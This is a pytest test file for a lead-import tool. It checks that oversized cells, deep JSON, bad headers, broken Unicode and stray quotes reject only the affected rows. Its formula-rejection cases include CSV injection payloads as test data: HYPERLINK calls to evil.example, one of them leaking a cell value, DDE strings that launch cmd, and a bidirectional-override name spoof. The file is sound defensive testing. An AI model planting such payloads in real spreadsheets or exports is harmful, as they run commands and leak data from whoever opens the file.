"""Imports never lose good rows to a hostile one: per-row limits while reading, bad headers refused up
front with the column named, formulas and invisible characters refused with the row, lead and field."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from reengage.domain.leads import FollowUpPolicy
from reengage_cli.importer import MAX_CELL, MAX_JSON_DEPTH, ImportFileError, import_file, read_rows
from tests.conftest import NOW
from tests.fakes import InMemoryTables

FORMULA = "looks like a spreadsheet formula (starts with '{}'), which a CSV export would run"
COLUMNS = ["id", "name", "email", "engagement_status", "email_confidence_level", "last_contacted"]


def row(number: int, **changes: str) -> dict[str, str]:
    return {
        "id": f"lead-{number}",
        "name": f"Person {number}",
        "email": f"person{number}@example.com",
        "engagement_status": "Sent",
        "email_confidence_level": "Real",
        "last_contacted": "2026-11-10T09:00:00Z",
        **changes,
    }


def csv_file(tmp_path: Path, rows: list[dict[str, str]], columns: list[str] = COLUMNS) -> Path:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    for values in rows:
        writer.writerow([values.get(name, "") for name in columns])
    path = tmp_path / "leads.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def imported(path: Path) -> tuple[InMemoryTables, list[str]]:
    store = InMemoryTables()
    report = import_file(store.stores, path, NOW, FollowUpPolicy())
    return store, [str(error) for error in report.rejected]


def test_a_huge_csv_cell_rejects_its_row_only(tmp_path: Path) -> None:
    # Given a cell over the csv module's own limit (131,072) between two good rows
    path = csv_file(tmp_path, [row(1), row(2, name="x" * 200_000), row(3)])
    # When it is imported
    store, rejected = imported(path)
    # Then the good rows land and the big one is named by row, lead and field
    assert sorted(store.leads) == ["lead-1", "lead-3"]
    assert rejected == [f"row 2 (lead lead-2): name: 200,000 characters; a cell holds at most {MAX_CELL:,}"]


def test_a_huge_quoted_multiline_cell_does_not_shift_the_rows_after_it(tmp_path: Path) -> None:
    path = csv_file(tmp_path, [row(1, name=("line\n" * 40_000)), row(2)])
    store, rejected = imported(path)
    assert sorted(store.leads) == ["lead-2"]
    assert rejected[0].startswith("row 1 (lead lead-1): name: 200,000 characters")


def test_a_deeply_nested_json_line_rejects_its_row_only(tmp_path: Path) -> None:
    deep = json.dumps(row(2))[:-1] + ', "engagement_history": ' + "[" * 100_000 + "]" * 100_000 + "}"
    path = tmp_path / "leads.jsonl"
    path.write_text("\n".join([json.dumps(row(1)), deep, json.dumps(row(3))]) + "\n", encoding="utf-8")
    store, rejected = imported(path)
    assert sorted(store.leads) == ["lead-1", "lead-3"]
    assert rejected == [f"row 2 (lead ?): row: JSON nested 100001 deep; at most {MAX_JSON_DEPTH}"]


def test_a_huge_json_value_is_named(tmp_path: Path) -> None:
    path = tmp_path / "leads.jsonl"
    path.write_text(json.dumps(row(1, company="y" * 100_000)) + "\n" + json.dumps(row(2)) + "\n", encoding="utf-8")
    store, rejected = imported(path)
    assert sorted(store.leads) == ["lead-2"]
    assert rejected == [f"row 1 (lead lead-1): company: 100,000 characters; a value holds at most {MAX_CELL:,}"]


@pytest.mark.parametrize(
    ("columns", "message"),
    [
        ([*COLUMNS, "email"], "column 'email' appears twice (columns 3 and 7)"),
        ([*COLUMNS, " email "], "column 'email' appears twice (columns 3 and 7)"),
        ([*COLUMNS, "e-mail"], "unknown column 'e-mail' (column 7"),
        ([*COLUMNS, ""], "column 7 has no name"),
    ],
)
def test_a_bad_header_refuses_the_file_up_front_naming_the_column(
    tmp_path: Path, columns: list[str], message: str
) -> None:
    path = csv_file(tmp_path, [row(1)], columns)
    with pytest.raises(ImportFileError, match=message.replace("(", r"\(").replace(")", r"\)")):
        list(read_rows(path))
    store = InMemoryTables()
    with pytest.raises(ImportFileError):
        import_file(store.stores, path, NOW, FollowUpPolicy())
    assert store.leads == {}  # nothing written


def test_a_duplicated_json_key_is_named(tmp_path: Path) -> None:
    line = json.dumps(row(1))[:-1] + ', "email": "someone.else@example.com"}'
    path = tmp_path / "leads.jsonl"
    path.write_text(line + "\n" + json.dumps(row(2)) + "\n", encoding="utf-8")
    store, rejected = imported(path)
    assert sorted(store.leads) == ["lead-2"]
    assert rejected == ["row 1 (lead ?): email: appears twice in the object"]


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("name", '=HYPERLINK("https://evil.example","Click")', FORMULA.format("=")),
        ("company", "+SUM(A1:A9)", FORMULA.format("+")),
        ("company", "-2+3", FORMULA.format("-")),
        ("name", "@cmd|' /C calc'!A0", FORMULA.format("@")),
        ("name", "Eve \u202emoc.elpmaxe", "contains an invisible or bidirectional control character (U+202E)"),
        ("company", "Ac\u200bme", "contains an invisible or bidirectional control character (U+200B)"),
        ("name", "\u2066Ana\u2069", "contains an invisible or bidirectional control character (U+2066)"),
        # Signs in a run, parentheses, quotes, sheet and R1C1 references: what spreadsheets still evaluate
        ("company", '+-HYPERLINK("https://evil.example/?x="&A1,"Click")', FORMULA.format("+")),
        ("company", "-(HYPERLINK(1))", FORMULA.format("-")),
        ("company", "-+cmd|' /C calc'!A0", FORMULA.format("-")),
        ("company", "+Sheet1!A1", FORMULA.format("+")),
        ("company", '+"a"&HYPERLINK(1)', FORMULA.format("+")),
        ("company", "@+SUM(1)", FORMULA.format("@")),
        ("company", "-'Sheet1'!A1", FORMULA.format("-")),
        ("company", "-R1C1", FORMULA.format("-")),
    ],
)
def test_formulas_and_invisible_characters_are_rejected(tmp_path: Path, field: str, value: str, reason: str) -> None:
    path = csv_file(tmp_path, [row(1, **{field: value}), row(2)], [*COLUMNS, "company"])
    store, rejected = imported(path)
    assert sorted(store.leads) == ["lead-2"]
    assert rejected == [f"row 1 (lead lead-1): {field}: {reason}"]


@pytest.mark.parametrize(
    "name", ["Jean-Luc Picard", "-", "@Home", "O'Brien", "Zoë Ångström", "علی\u200cرضا", "👩\u200d💻 Dev"]
)
def test_ordinary_names_are_kept(tmp_path: Path, name: str) -> None:
    store, rejected = imported(csv_file(tmp_path, [row(1, name=name)]))
    assert rejected == [] and store.leads["lead-1"].name == name


def test_a_broken_unicode_escape_rejects_its_row_only(tmp_path: Path) -> None:
    # An unpaired surrogate (\ud800) decodes from JSON but cannot be encoded for any store
    lines = [json.dumps(row(1)), json.dumps(row(2, name="Bad \ud800 Name")), json.dumps(row(3))]
    history = {**row(4), "engagement_history": [{"stage": "Followup_1", "note": "\udc00"}]}
    path = tmp_path / "leads.jsonl"
    path.write_text("\n".join([*lines, json.dumps(history)]) + "\n", encoding="utf-8")
    store, rejected = imported(path)
    assert sorted(store.leads) == ["lead-1", "lead-3"]
    reason = "contains an unpaired UTF-16 surrogate (a broken \\u escape)"
    assert rejected == [f"row 2 (lead lead-2): name: {reason}", f"row 4 (lead lead-4): engagement_history: {reason}"]


def test_a_stray_quote_names_the_rows_it_swallowed(tmp_path: Path) -> None:
    header = ",".join(COLUMNS)
    good = "{0},Person {0},{0}@globex.com,Sent,Real,2026-11-10T09:00:00Z"
    lines = [header, good.format("q1"), 'q2,Person q2,"q2@globex.com,Sent,Real,2026-11-10T09:00:00Z']
    lines += [good.format("q3"), good.format("q4")]
    path = tmp_path / "leads.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    store, rejected = imported(path)
    assert sorted(store.leads) == ["q1"]
    assert rejected == [
        "row 2 (lead q2): email: an unterminated quote swallowed 2 following line(s) that look like rows "
        "(q3, q4); close the quote and import the file again"
    ]
